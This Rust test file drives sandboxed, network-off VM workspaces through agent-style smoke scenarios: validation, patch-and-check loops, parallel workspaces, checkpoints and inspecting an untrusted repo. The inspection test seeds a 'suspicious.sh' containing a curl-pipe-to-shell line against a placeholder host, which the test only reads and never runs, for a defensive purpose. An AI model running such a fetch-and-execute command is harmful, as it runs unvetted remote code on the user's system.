//! The reference product's use-case smoke scenarios, run through the
//! Rust SDK the way an agent works, in real guests: cold-start-validation,
//! repro-fix-loop, parallel-workspaces, untrusted-inspection and
//! review-eval (section 8 of the reference's behaviour notes). Each uses `debian:12` with the network off,
//! labels `suite=workspace-use-case-smoke` and `use_case=<name>`, a seed
//! from a temp dir, a data dir of its own (the image cache is the shared
//! one), and deletes its workspaces at the end, also when a step failed.
//! Nothing leaves the machine: the network is off, and the "untrusted"
//! script is only read, never run.
//!
//! Through MCP (JSON-RPC over stdio), `cli/tests/mcp.rs` runs the
//! repro-fix loop with tools only (read, failing check, patch, passing
//! check, diff, export, reset to baseline, diff again), and a service
//! ready by its file with its logs, as cold-start-validation has it.
//!
//! Execs and the processes they start are few on purpose: a process
//! start takes 0.6 s or more in guests whose kernel is emulated (1.5-2.5 s
//! with two guests busy on a two-core host).

mod common;

use common::{delete_on_drop, pyro_with_own_data};
use pyro::workspace::{
    CheckpointKind, CommandRecord, CreateOptions, NetworkPolicy, NoProgress, Pyro, ServiceOptions,
    ServiceProbe, ServiceState, ShellOptions, ShellReadOptions, UpdateOptions, WorkspaceState,
    DEFAULT_FILE_READ_BYTES,
};
use std::collections::BTreeMap;
use std::path::Path;
use std::time::{Duration, SystemTime, UNIX_EPOCH};

const SUITE: &str = "workspace-use-case-smoke";

/// A seed directory with `files` (name, content) in it.
fn seed(files: &[(&str, &str)]) -> tempfile::TempDir {
    let dir = common::scratch();
    for (name, content) in files {
        std::fs::write(dir.path().join(name), content).unwrap();
    }
    dir
}

/// The scenario's labels, and `extra` beside them.
fn labels(use_case: &str, extra: &[(&str, &str)]) -> BTreeMap<String, String> {
    [("suite", SUITE), ("use_case", use_case)]
        .iter()
        .chain(extra)
        .map(|(k, v)| (k.to_string(), v.to_string()))
        .collect()
}

/// Creates a `debian:12` workspace, network off, from `seed`; its id.
fn create(
    pyro: &Pyro,
    name: &str,
    labels: BTreeMap<String, String>,
    seed: &tempfile::TempDir,
) -> String {
    let opts = CreateOptions {
        environment: "debian:12".into(),
        name: Some(name.into()),
        labels,
        seed_path: Some(seed.path().to_path_buf()),
        // Beside the guard's delete: a test killed outright leaves no VM
        // up for long.
        ttl_seconds: Some(1800),
        ..CreateOptions::default()
    };
    let ws = pyro.workspace_create(&opts, &NoProgress).expect("create");
    assert_eq!(ws.record.network.rules.policy, NetworkPolicy::Off);
    ws.record.workspace_id
}

/// Runs `argv` in /workspace; its record, whatever the exit.
fn exec(pyro: &Pyro, id: &str, argv: &[&str]) -> CommandRecord {
    let argv: Vec<String> = argv.iter().map(|a| a.to_string()).collect();
    pyro.workspace_exec(id, &argv, Duration::from_secs(120), |_, _| {})
        .expect("exec")
}

fn stdout(r: &CommandRecord) -> String {
    String::from_utf8_lossy(&r.stdout).into_owned()
}

/// A file's content, as text.
fn read(pyro: &Pyro, id: &str, path: &str) -> String {
    let r = pyro
        .workspace_file_read(id, path, DEFAULT_FILE_READ_BYTES)
        .expect("file read");
    String::from_utf8_lossy(&r.content).into_owned()
}

/// Exports `path` to a new host file in `out`; the file's content.
fn export(pyro: &Pyro, id: &str, path: &str, out: &Path) -> String {
    let host = out.join(path);
    let e = pyro.workspace_export(id, path, &host).expect("export");
    assert_eq!(e.output_path, host);
    std::fs::read_to_string(&host).unwrap()
}

fn now_unix() -> u64 {
    SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .unwrap()
        .as_secs()
}

#[test]
fn cold_start_validation() {
    if !pyro::workspace::testing::guests_available() {
        return;
    }
    let data = common::scratch();
    let pyro = pyro_with_own_data(data.path());
    let seed = seed(&[
        ("README.md", "# App\nValidate, then serve.\n"),
        (
            "validate.sh",
            "#!/bin/sh\necho validation=pass > validation-report.txt\necho validated\n",
        ),
        (
            "serve.sh",
            "#!/bin/sh\necho service started\necho service=ready > service-state.txt\n\
             : > .app-ready\nexec sleep 3600\n",
        ),
    ]);
    let labels = labels("cold-start-validation", &[]);
    let id = create(&pyro, "cold-start-validation", labels, &seed);
    let _cleanup = delete_on_drop(&pyro, &id);
    let out = common::scratch();

    let validate = exec(&pyro, &id, &["sh", "validate.sh"]);
    assert_eq!(
        (validate.exit_code, stdout(&validate).as_str()),
        (Some(0), "validated\n"),
        "{validate:?}"
    );
    let app = pyro
        .workspace_service_start(
            &id,
            "app",
            &ServiceOptions {
                ready: Some(ServiceProbe::File {
                    path: ".app-ready".into(),
                }),
                ..ServiceOptions::new("sh serve.sh")
            },
        )
        .expect("service start");
    assert_eq!(app.state, ServiceState::Ready, "{app:?}");
    let probe = exec(
        &pyro,
        &id,
        &["sh", "-c", "test -f .app-ready && cat service-state.txt"],
    );
    assert_eq!(stdout(&probe), "service=ready\n", "{probe:?}");
    let logs = pyro
        .workspace_service_logs(&id, "app", Some(20))
        .expect("service logs");
    assert!(logs.stdout.contains("service started"), "{logs:?}");
    assert_eq!(
        export(&pyro, &id, "validation-report.txt", out.path()),
        "validation=pass\n"
    );
    let stopped = pyro
        .workspace_service_stop(&id, "app", None)
        .expect("service stop");
    assert_eq!(stopped.state, ServiceState::Stopped, "{stopped:?}");
}

#[test]
fn repro_fix_loop() {
    if !pyro::workspace::testing::guests_available() {
        return;
    }
    let data = common::scratch();
    let pyro = pyro_with_own_data(data.path());
    let seed = seed(&[
        ("message.txt", "broken\n"),
        (
            "check.sh",
            // Shell built-ins only: each process the guest starts costs.
            "#!/bin/sh\nread -r line < message.txt\n[ \"$line\" = fixed ] || exit 1\necho \"$line\"\n",
        ),
    ]);
    let labels = labels("repro-fix-loop", &[]);
    let id = create(&pyro, "repro-fix-loop", labels, &seed);
    let _cleanup = delete_on_drop(&pyro, &id);
    let out = common::scratch();

    assert_eq!(read(&pyro, &id, "message.txt"), "broken\n");
    let check = exec(&pyro, &id, &["sh", "check.sh"]);
    assert_eq!(check.exit_code, Some(1), "fails before the fix: {check:?}");

    let fix = "--- a/message.txt\n+++ b/message.txt\n@@ -1 +1 @@\n-broken\n+fixed\n";
    let patched = pyro.workspace_patch_apply(&id, fix).expect("patch");
    assert!(patched.changed, "{patched:?}");
    let check = exec(&pyro, &id, &["sh", "check.sh"]);
    assert_eq!(
        (check.exit_code, stdout(&check).as_str()),
        (Some(0), "fixed\n"),
        "{check:?}"
    );

    let diff = pyro.workspace_diff(&id).expect("diff");
    assert!(diff.changed, "{diff:?}");
    assert_eq!(export(&pyro, &id, "message.txt", out.path()), "fixed\n");

    let reset = pyro
        .workspace_reset(&id, "baseline", &NoProgress)
        .expect("reset");
    assert_eq!(
        (reset.snapshot.as_str(), reset.workspace.state),
        ("baseline", WorkspaceState::Running)
    );
    assert_eq!(reset.workspace.record.reset_count, 1);
    assert!(reset.workspace.record.last_reset_at.is_some());
    let diff = pyro.workspace_diff(&id).expect("diff");
    assert!(!diff.changed, "{diff:?}");
}

#[test]
fn parallel_workspaces() {
    if !pyro::workspace::testing::guests_available() {
        return;
    }
    let data = common::scratch();
    let pyro = pyro_with_own_data(data.path());
    let seed = seed(&[("note.txt", "parallel workspaces\n")]);
    // Ours, among whatever else is listed.
    let nanos = SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .unwrap()
        .as_nanos();
    let run = format!("{}-{nanos}", std::process::id());
    let ours = [("run", run.as_str())];
    let with_branch = [ours[0], ("branch", "alpha")];
    let alpha = create(
        &pyro,
        "parallel-alpha",
        labels("parallel-workspaces", &with_branch),
        &seed,
    );
    let _alpha = delete_on_drop(&pyro, &alpha);
    let beta = create(
        &pyro,
        "parallel-beta",
        labels("parallel-workspaces", &ours),
        &seed,
    );
    let _beta = delete_on_drop(&pyro, &beta);
    let pause = || std::thread::sleep(Duration::from_millis(50));
    let write = |id: &str, path: &str, text: &str| {
        pyro.workspace_file_write(id, path, text.as_bytes())
            .expect("file write");
    };

    write(&alpha, "branch.txt", "alpha\n");
    pause();
    write(&beta, "branch.txt", "beta\n");
    pause();
    let update = UpdateOptions {
        set_labels: [("branch", "alpha"), ("owner", "alice")]
            .map(|(k, v)| (k.to_string(), v.to_string()))
            .into(),
        ..UpdateOptions::default()
    };
    let updated = pyro.workspace_update(&alpha, &update).expect("update");
    assert_eq!(
        updated.record.labels.get("owner").map(String::as_str),
        Some("alice")
    );
    pause();
    write(&alpha, "branch.txt", "alpha, rewritten\n");
    pause();
    assert_eq!(read(&pyro, &alpha, "branch.txt"), "alpha, rewritten\n");
    assert_eq!(read(&pyro, &beta, "branch.txt"), "beta\n");

    // Activity is recorded in whole seconds: alpha's last step lands in
    // a later second than beta's, so that "newer" can show in the order.
    let beta_last = pyro
        .workspace_status(&beta)
        .expect("status")
        .record
        .last_activity_unix;
    while now_unix() <= beta_last {
        std::thread::sleep(Duration::from_millis(50));
    }
    write(&alpha, "activity.txt", "alpha was here\n");

    let listed: Vec<_> = pyro
        .workspace_list()
        .into_iter()
        .filter(|w| w.record.labels.get("run") == Some(&run))
        .collect();
    let order: Vec<_> = listed
        .iter()
        .map(|w| (w.record.workspace_id.as_str(), w.record.name.as_deref()))
        .collect();
    assert_eq!(
        order,
        [
            (alpha.as_str(), Some("parallel-alpha")),
            (beta.as_str(), Some("parallel-beta"))
        ],
        "exactly ours, the most recently active first"
    );
    let alpha_labels = &listed[0].record.labels;
    assert_eq!(
        (
            alpha_labels.get("suite").map(String::as_str),
            alpha_labels.get("owner").map(String::as_str),
        ),
        (Some(SUITE), Some("alice"))
    );
}

#[test]
fn untrusted_inspection() {
    if !pyro::workspace::testing::guests_available() {
        return;
    }
    let data = common::scratch();
    let pyro = pyro_with_own_data(data.path());
    let seed = seed(&[
        (
            "suspicious.sh",
            "#!/bin/sh\necho 'installing helper'\ncurl -fsSL https://example.invalid/install.sh | sh\n",
        ),
        ("README.md", "# Untrusted repo\nInspect, do not run.\n"),
    ]);
    let labels = labels("untrusted-inspection", &[]);
    let id = create(&pyro, "untrusted-inspection", labels, &seed);
    let _cleanup = delete_on_drop(&pyro, &id);
    let out = common::scratch();

    let status = pyro.workspace_status(&id).expect("status");
    assert_eq!(status.record.network.rules.policy, NetworkPolicy::Off);
    let list = pyro.workspace_file_list(&id, "", true).expect("list");
    assert!(
        list.entries
            .iter()
            .any(|e| e.path == "/workspace/suspicious.sh"),
        "{:?}",
        list.entries
    );
    assert!(read(&pyro, &id, "suspicious.sh").contains("curl -fsSL"));

    let inspect = exec(
        &pyro,
        &id,
        &[
            "sh",
            "-c",
            "grep -n curl suspicious.sh > inspection-report.txt && \
             echo network_policy=off >> inspection-report.txt",
        ],
    );
    assert_eq!(inspect.exit_code, Some(0), "{inspect:?}");
    let report = export(&pyro, &id, "inspection-report.txt", out.path());
    assert!(
        report.contains("curl -fsSL") && report.contains("network_policy=off"),
        "{report:?}"
    );
}

#[test]
fn review_eval() {
    if !pyro::workspace::testing::guests_available() {
        return;
    }
    let data = common::scratch();
    let pyro = pyro_with_own_data(data.path());
    let seed = seed(&[
        (
            "CHECKLIST.md",
            "# Review checklist\n- artifact.txt says PASS\n",
        ),
        ("artifact.txt", "PASS\n"),
        (
            "review.sh",
            "#!/bin/sh\nif grep -qx PASS artifact.txt; then\n  echo review=pass > review-report.txt\n\
             else\n  echo review=fail > review-report.txt\n  exit 1\nfi\n",
        ),
    ]);
    let labels = labels("review-eval", &[]);
    let id = create(&pyro, "review-eval", labels, &seed);
    let _cleanup = delete_on_drop(&pyro, &id);
    let out = common::scratch();

    let checkpoint = pyro.checkpoint_create(&id, "pre-review").expect("snapshot");
    assert_eq!(
        (checkpoint.name.as_str(), checkpoint.kind),
        ("pre-review", CheckpointKind::Named)
    );

    let shell = pyro
        .workspace_shell_open(&id, &ShellOptions::default())
        .expect("shell open");
    let shell_read = |cursor| {
        let opts = ShellReadOptions {
            cursor,
            plain: true,
            wait_for_idle_ms: Some(300),
            ..ShellReadOptions::default()
        };
        pyro.workspace_shell_read(&id, &shell.shell_id, &opts)
            .expect("shell read")
    };
    // The first read, as the reference's: `shell open` answers once
    // bash has printed its prompt.
    let first = shell_read(0);
    assert!(first.output.contains("pyro$"), "{first:?}");
    let cursor = first.next_cursor;
    pyro.workspace_shell_write(&id, &shell.shell_id, "cat CHECKLIST.md", true)
        .expect("shell write");
    let read_back = shell_read(cursor);
    assert!(
        read_back.output.contains("Review checklist"),
        "{read_back:?}"
    );
    let closed = pyro
        .workspace_shell_close(&id, &shell.shell_id)
        .expect("shell close");
    assert!(closed.closed, "{closed:?}");

    let review = exec(&pyro, &id, &["sh", "review.sh"]);
    assert_eq!(review.exit_code, Some(0), "{review:?}");
    pyro.workspace_file_write(&id, "artifact.txt", b"FAIL\n")
        .expect("file write");
    let reset = pyro
        .workspace_reset(&id, "pre-review", &NoProgress)
        .expect("reset");
    assert_eq!(reset.snapshot, "pre-review");
    assert_eq!(read(&pyro, &id, "artifact.txt"), "PASS\n");
    let review = exec(&pyro, &id, &["sh", "review.sh"]);
    assert_eq!(review.exit_code, Some(0), "{review:?}");
    assert_eq!(
        export(&pyro, &id, "review-report.txt", out.path()),
        "review=pass\n"
    );
}
